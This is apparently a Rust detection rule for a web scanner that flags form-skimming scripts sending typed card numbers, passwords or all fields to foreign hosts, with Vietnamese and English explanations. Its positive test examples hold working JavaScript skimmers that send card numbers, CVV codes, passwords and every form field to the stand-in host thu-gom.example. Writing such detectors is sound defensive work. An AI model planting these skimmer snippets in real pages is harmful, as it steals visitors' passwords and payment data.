//! `form-skimmer`: a script reads what visitors type and sends it to a foreign host.
//!
//! Scripts that send what is typed are everywhere: searches that suggest, chats, newsletters. They
//! send their own field, and the visitor means them to. Nobody who builds an agency's page sends
//! every field there is, single keys, passwords or numbers of payment cards to somebody else.

use std::sync::Arc;

use url::Url;

use super::{
    Answer, Example, Hit, Observation, Proof, Rule,
    destination::{identity_signal, signals_to},
    imitation::imitated,
    loader::is_known_loader,
    running::unpacked,
};
use crate::{
    finding::{Family, Signal, SignalKind, Text},
    page::{
        Page, Script, ScriptKind,
        script::{Condition, Destination, Sending, Trigger, Typed},
    },
};

pub(super) const RULE: Rule = Rule {
    id: "form-skimmer",
    family: Family::Script,
    what: Text {
        vi: "Mã đọc những gì người dùng nhập (số thẻ, mật khẩu, từng phím gõ, mọi ô của trang) và gửi tới máy chủ lạ.",
        en: "Code that reads what visitors type (card numbers, passwords, single keys, every field of the page) and sends it to a foreign host.",
    },
    why: Text {
        vi: "Người dân vẫn gửi được biểu mẫu như thường nên không ai nhận ra mật khẩu, số thẻ và dữ liệu cá nhân đã bị chép cho kẻ gian.",
        en: "The form still works, so nobody notices that passwords, card numbers and personal data are copied to criminals.",
    },
    repair: Text {
        vi: "Gỡ đoạn mã, tìm nó trong mọi tệp .js, giao diện và cơ sở dữ liệu; báo ngay người dùng đổi mật khẩu, khoá thẻ; xem nhật ký để biết mã có từ khi nào; nếu là dịch vụ của cơ quan thì khai báo máy chủ.",
        en: "Remove the code and look for it in all .js files, themes and the database; tell users at once to change passwords and block cards; find out from the logs since when it was there; if it is a service of the agency's, vouch for its host.",
    },
    examine,
    caught: &[
        Example::page(
            "the number of a card goes away in the address of a picture",
            &[Answer::all(
                r#"<body><form action="/nop-phi"><input id="cc_number"><input id="cvv"></form><script>setInterval(function(){var n=document.getElementById("cc_number").value,c=document.getElementById("cvv").value;if(n.length>14){new Image().src="https://thu-gom.example/p?d="+encodeURIComponent(n+"|"+c)}},700)</script></body>"#,
            )],
        ),
        Example::page(
            "a password is sent while it is typed",
            &[Answer::all(
                r#"<body><form action="/dang-nhap" method="post"><input name="mat_khau" type="password"></form><script>document.querySelector("[name=mat_khau]").addEventListener("keyup",function(){navigator.sendBeacon("https://thu-gom.example/k",document.querySelector("[name=mat_khau]").value)})</script></body>"#,
            )],
        ),
        Example::page(
            "every field, only on the pages where people pay",
            &[Answer::all(
                r#"<body><form action="/thanh-toan"><input name="a"></form><script>if(/thanh-toan|checkout/.test(location.href)){document.forms[0].addEventListener("submit",function(){var s="",f=document.querySelectorAll("input, select, textarea");for(var i=0;i<f.length;i++){s+=f[i].name+"="+f[i].value+"&"}var x=new XMLHttpRequest();x.open("POST","https://thu-gom.example/g");x.send(s)})}</script></body>"#,
            )],
        ),
    ],
    clean: &[
        Example::page(
            "a search that asks somebody for suggestions",
            &[Answer::all(
                r##"<body><input id="q"><script>$("#q").on("keyup",function(){$.getJSON("https://goi-y.example/s?q="+encodeURIComponent($("#q").val()),show)})</script></body>"##,
            )],
        ),
        Example::page(
            "a newsletter and a survey that their makers' hosts take",
            &[Answer::all(
                r##"<body><form id="thu-tin"><input name="email"></form><script>document.getElementById("thu-tin").addEventListener("submit",function(e){e.preventDefault();fetch("https://thu-tin.example/dang-ky",{method:"POST",body:new FormData(this)})});$("#gui").click(function(){$.post("https://khao-sat.example/a",{y:$("#y-kien").val(),ten:$("#ho-ten").val()})})</script></body>"##,
            )],
        ),
        Example::page(
            "the portal's own sign-in, and a strength meter",
            &[Answer::all(
                r##"<body><input type="password" id="password"><script>$("#vao").click(function(){$.post("/dang-nhap",{p:$("#password").val()})});$("#password").keyup(function(){$("#do-manh").text($("#password").val().length)});fetch("https://thoi-tiet.example/hom-nay?tinh="+$("#tinh").val())</script></body>"##,
            )],
        ),
    ],
};

fn examine(observation: &Observation<'_>, hits: &mut Vec<Hit>) {
    if !observation.knows_where() {
        return;
    }
    for (identity, page) in observation.pages() {
        for script in &page.scripts {
            for sending in script.facts.iter().flat_map(|facts| &facts.sends) {
                let Some(url) = address_of(page, sending) else { continue };
                let Some(host) = url.host_str() else { continue };
                if sending.typed.is_empty() || is_known_loader(observation, &url) {
                    continue;
                }
                let Some(mut signals) = signals_to(observation, &url) else { continue };
                signals.extend(what_is_taken(sending));
                if sending.disguised || sending.encoded {
                    let what = if sending.disguised { "host" } else { "code" };
                    signals.push(Signal::new(SignalKind::Encoded, what));
                }
                let imitated = imitated(host);
                signals.extend(imitated.map(|name| Signal::new(SignalKind::Imitates, name)));
                signals.extend(identity_signal(observation, identity, |other| {
                    sends_of(other).any(|url| url.host_str() == Some(host))
                }));
                hits.push(Hit {
                    key: host.to_owned(),
                    subject: url.to_string(),
                    identity,
                    signals,
                    proof: proof(page, script, sending, &url),
                });
            }
        }
    }
}

/// What is taken, and when.
fn what_is_taken(sending: &Sending) -> Vec<Signal> {
    let takes = |typed: Typed| sending.typed.contains(&typed);
    let mut signals = Vec::new();
    for typed in &sending.typed {
        let name = match typed {
            Typed::Cards => "card",
            Typed::Passwords => "password",
            Typed::AllFields => "all-fields",
            Typed::Keys => "keys",
        };
        signals.push(Signal::new(SignalKind::Hijack, name));
    }
    if takes(Typed::Cards) {
        signals.push(Signal::new(SignalKind::Secret, "card"));
    }
    if takes(Typed::Passwords) && is_unasked(&sending.trigger) {
        signals.push(Signal::new(SignalKind::Secret, "password"));
    }
    // A sign-in waits for its own page too; what takes all it can get does not.
    let gated = sending.conditions.contains(&Condition::Address);
    if gated && (takes(Typed::AllFields) || takes(Typed::Cards)) {
        signals.push(Signal::new(SignalKind::Condition, "address"));
    }
    signals
}

/// Whether it is sent though the visitor has not sent anything.
fn is_unasked(trigger: &Trigger) -> bool {
    match trigger {
        Trigger::Timer(_) => true,
        Trigger::Event(event) | Trigger::Anywhere(event) => matches!(
            event.as_str(),
            "keyup"
                | "keydown"
                | "keypress"
                | "input"
                | "change"
                | "blur"
                | "focusout"
                | "beforeunload"
                | "unload"
                | "pagehide"
                | "visibilitychange"
                | "paste"
        ),
        Trigger::Load | Trigger::Uncalled => false,
    }
}

fn sends_of(page: &Page) -> impl Iterator<Item = Url> {
    let facts = page.scripts.iter().filter_map(|script| script.facts.as_ref());
    let sends = facts.flat_map(|facts| &facts.sends);
    sends.filter(|sending| !sending.typed.is_empty()).filter_map(|one| address_of(page, one))
}

fn address_of(page: &Page, sending: &Sending) -> Option<Url> {
    match &sending.target {
        Destination::Whole(address) | Destination::Begins(address) => page.url.join(address).ok(),
        Destination::Element(_) | Destination::Unknown => None,
    }
}

fn proof(page: &Arc<Page>, script: &Script, sending: &Sending, url: &Url) -> Proof {
    let host = url.host_str().unwrap_or_default();
    if let Some(proof) = unpacked(page, &script.spot, sending.ran.as_ref(), host) {
        return proof;
    }
    let (page, spot) = (Arc::clone(page), script.spot.clone());
    match script.kind {
        ScriptKind::Inline if !sending.span.is_empty() => {
            Proof::Code(page, spot, sending.span.clone())
        }
        _ => Proof::Element(page, spot),
    }
}
